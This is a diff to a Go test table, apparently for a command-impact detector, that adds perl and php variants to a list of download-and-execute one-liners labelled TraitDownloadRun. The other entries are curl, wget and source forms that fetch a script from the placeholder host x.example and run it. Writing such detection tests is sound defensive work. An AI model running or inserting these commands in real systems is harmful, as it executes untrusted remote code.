@@ -186,6 +186,8 @@ func TestFlows(t *testing.T) {
 		{"curl -O https://x.example/i.sh; chmod +x i.sh; ./i.sh", impact.TraitDownloadRun},
 		{"wget https://x.example/i.sh && bash i.sh", impact.TraitDownloadRun},
 		{"curl https://x.example/i > i; . ./i", impact.TraitDownloadRun},
+		{"perl -MLWP::Simple -e 'eval get \"https://x.example/i\"'", impact.TraitDownloadRun},
+		{"php -r 'eval(file_get_contents(\"https://x.example/i\"));'", impact.TraitDownloadRun},
 		{"curl https://x.example/i | tee i; bash i", impact.TraitDownloadRun},
 		{"curl -o a https://x.example/i; cp a b; mv b c; sh c", impact.TraitDownloadRun},
 		{"source <(curl https://x.example/i)", impact.TraitDownloadRun},
